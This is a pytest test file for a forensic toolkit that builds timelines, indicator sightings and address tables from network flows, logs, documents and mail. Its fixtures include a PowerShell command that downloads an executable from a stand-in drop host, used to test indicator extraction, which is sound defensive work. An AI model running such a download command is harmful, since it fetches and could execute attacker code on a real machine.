"""Conversations, names looked up, visited pages and documents: in the timeline, among the indicators and the addresses."""

from datetime import UTC, datetime, timedelta

import mail_tables
import polars as pl
import pytest

from comity.analysis import addresses, flow_summary, indicators, timeline
from comity.analysis.payments.mention import Attachments, mentions
from comity.observables import DOCUMENT, EVENT, FILE, FLOW, HOP, LINK, MESSAGE, PAYMENT
from comity.reference.allocations import load
from event_factory import events

AT = datetime(2026, 9, 1, 8, tzinfo=UTC)
MINUTE, DAY = timedelta(minutes=1), timedelta(days=1)
IBAN = "DE63999900020090071155"


def flow(number: int, *, target: str = "198.51.100.7", port: int = 443) -> dict:
    return {
        "@timestamp": AT + MINUTE * number, "event.precision": "microsecond", "network.transport": "tcp", "source.ip": "10.0.0.5",
        "source.port": 40_000 + number, "destination.ip": target, "destination.port": port, "source.bytes": 10, "destination.bytes": 100,
    }  # fmt: skip


def shown(**tables: pl.LazyFrame) -> pl.DataFrame:
    return pl.concat(timeline.slices(tables))


def test_few_conversations_stand_one_by_one() -> None:
    entries = shown(flow=mail_tables.rows(FLOW, [flow(1), {**flow(2), "destination.port": None}, {**flow(3), "@timestamp": None}]))
    assert entries["what"].to_list() == ["tcp to 198.51.100.7 port 443, 110 bytes", "tcp to 198.51.100.7, 110 bytes"]
    assert set(entries["kind"]) == {"network"}
    assert entries["address"].to_list() == ["10.0.0.5"] * 2


@pytest.fixture
def many(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(flow_summary, "ONE_BY_ONE", 5)


@pytest.mark.usefixtures("many")
def test_many_conversations_are_summed_up_and_none_is_lost() -> None:
    rows = [flow(number, target=f"198.51.100.{number % 3}") for number in range(100)]
    entries = shown(flow=mail_tables.rows(FLOW, rows))
    counts = (
        entries["what"].str.extract(r"^(\d+) tcp conversations to 198\.51\.100\.\d port 443 within the hour, (\d+) bytes$").cast(pl.Int64)
    )
    assert counts.sum() == 100
    assert entries.height == 6, "three ends in two hours"
    assert entries["trace.offset"].to_list()[:3] == [0, 100, 200]
    assert entries["trace.length"].to_list() == [100] * 6


@pytest.mark.usefixtures("many")
@pytest.mark.parametrize(("most", "heights"), [(400, 40), (3, 2), (1, 2)])
def test_a_scan_is_summed_up_by_fewer_ends(monkeypatch: pytest.MonkeyPatch, most: int, heights: int) -> None:
    monkeypatch.setattr(flow_summary, "MOST_SUMS", most)
    rows = [flow(number, target=f"198.51.100.{number % 20}") for number in range(120)]
    entries = shown(flow=mail_tables.rows(FLOW, rows))
    assert entries.height == heights
    assert entries["what"].str.extract(r"^(\d+)").cast(pl.Int64).sum() == 120


def test_what_events_of_new_kinds_say() -> None:
    rows = [
        {"event.dataset": "capture", "event.category": "network", "event.action": "dns_response", "dns.question.name": "a.example", "dns.answers": ["192.0.2.1"], "event.outcome": "success"},
        {"event.dataset": "capture", "event.category": "network", "event.action": "tls_client_hello", "destination.domain": "b.example"},
        {"event.dataset": "browser_history", "event.category": "web", "event.action": "page_visited", "url.original": "https://c.example/x", "message": "A title", "destination.domain": "c.example"},
        {"event.dataset": "capture", "event.category": "web", "event.action": "http_response", "http.response.status_code": 404},
        {"event.dataset": "windows_event", "event.category": "host", "event.action": "log_cleared", "message": "The Security log was cleared by eve", "event.outcome": "success"},
        {"event.dataset": "suricata_alert", "event.category": "intrusion_detection", "event.action": "alert", "message": "ET SCAN"},
        {"event.dataset": "windows_event", "event.category": "host", "event.action": "message", "message": "hello"},
    ]  # fmt: skip
    entries = shown(event=events([{"@timestamp": AT + MINUTE * place, **row} for place, row in enumerate(rows)]))
    assert entries.select("kind", "what", "object").rows() == [
        ("network", "dns response (success): a.example is 192.0.2.1", None),
        ("network", "tls client hello: b.example", "b.example"),
        ("web", "page visited: A title", "c.example"),
        ("web", "http response: 404", None),
        ("system", "log cleared (success): The Security log was cleared by eve", None),
        ("alert", "alert: ET SCAN", None),
        ("system", "hello", None),
    ]


def test_a_document_tells_of_two_moments() -> None:
    written = {"title": "Invoice", "creator": "A", "last_modified_by": "B", "created": AT, "modified": AT + DAY}
    table = mail_tables.rows(DOCUMENT, [written, {**written, "created": None}, {"title": "none"}])
    entries = shown(document=table)
    assert entries.select("what", "actor").rows() == [
        ("Document created, as it says: Invoice", "A"),
        ("Document saved, as it says: Invoice", "B"),
        ("Document saved, as it says: Invoice", "B"),
    ]
    assert timeline.untimed({"document": table}).rows() == [("document", 1)]


def sightings(*, logged=(), flows=(), documents=(), mail=(), payments=()) -> pl.DataFrame:
    rows, log = mail_tables.rows, mail_tables.rows(EVENT, logged)
    return indicators.sightings(
        (
            *indicators.places(
                messages=rows(MESSAGE, mail), hops=rows(HOP, []), links=rows(LINK, []), events=log, payments=rows(PAYMENT, payments)
            ),
            *indicators.network_places(events=log, flows=rows(FLOW, flows)),
            *indicators.document_places(rows(DOCUMENT, documents)),
        )
    )


def test_where_selectors_of_networks_and_documents_are_seen() -> None:
    logged = [
        {"dns.question.name": "evil.example", "dns.answers": ["198.51.100.7", "cdn.example"]},
        {"event.action": "page_visited", "url.original": "https://evil.example/a"},
        {"destination.ip": "198.51.100.8", "destination.domain": "tls.example", "network.forwarded_ip": "203.0.113.5, 10.0.0.1"},
        {"process.command_line": "powershell iwr http://drop.example/x.exe", "user.name": "a@firm.example"},
    ]
    documents = [
        {
            "text": f"Please pay to {IBAN[:4]} {IBAN[4:8]} {IBAN[8:12]} {IBAN[12:16]} {IBAN[16:20]} {IBAN[20:]}",
            "links": ["https://link.example/"],
        }
    ]
    seen = sightings(logged=logged, flows=[flow(1)], documents=documents)
    found = set(seen.select("value", "where").iter_rows())
    assert found >= {
        ("evil.example", "name looked up"),
        ("198.51.100.7", "answer of the name system"),
        ("https://evil.example/a", "page visited"),
        ("198.51.100.8", "address asked"),
        ("tls.example", "host asked"),
        ("203.0.113.5", "address a proxy claimed to speak for"),
        ("http://drop.example/x.exe", "command run"),
        ("a@firm.example", "account in a log"),
        ("198.51.100.7", "end of a conversation"),
        (IBAN, "text of a document"),
        ("https://link.example/", "link in a document"),
    }
    assert ("https://evil.example/a", "target of a web request") not in found


def test_what_an_office_uses_daily_connects_nothing_by_itself() -> None:
    mail = [{"body.text": f"see https://news.example/today and pay {IBAN}", "date": AT}]
    visited = [{"event.action": "page_visited", "url.original": "https://news.example/today"}]
    documents = [{"text": IBAN}]
    (only,) = indicators.shared(sightings(mail=mail, logged=visited, documents=documents))
    assert "document" in only.statement
    assert {each.selector.value for each in only.involved} == {IBAN}


def test_both_ends_of_a_conversation_are_addresses() -> None:
    log = events([{"@timestamp": AT, "destination.ip": "198.51.100.9", "event.precision": "second"}])
    table = addresses.table(log, mail_tables.rows(HOP, []), mail_tables.rows(FLOW, [flow(1)]), allocations=load([]))
    assert table.select("address", "sources", "ports").rows() == [
        ("10.0.0.5", "network", 1),
        ("198.51.100.7", "network", 1),
        ("198.51.100.9", "asked", 0),
    ]


def test_an_account_named_only_in_an_attached_document() -> None:
    messages = [
        {"date": AT, "from.address": "a@x.example", "body.text": "see attachment", "trace.offset": 500, "trace.length": 1000},
        {"date": AT, "from.address": "b@x.example", "body.text": "hello", "trace.offset": 1500, "trace.length": 1000},
    ]
    files = [{"number": "1.1", "trace.offset": 900, "trace.length": 50}, {"number": "1.2", "trace.offset": 1600, "trace.length": 50}]
    documents = [{"text": f"Account {IBAN[:4]}-{IBAN[4:]}", "trace.exhibit": "1.1"}, {"text": "other", "trace.exhibit": "1.2"}]
    rows = mail_tables.rows
    attached = Attachments(documents=rows(DOCUMENT, documents), files=rows(FILE, files))
    (one,) = mentions(rows(MESSAGE, messages), [IBAN], attached)[IBAN]
    assert (one.sender, one.trace.offset) == ("a@x.example", 500)
    assert mentions(rows(MESSAGE, messages), [IBAN]) == {}
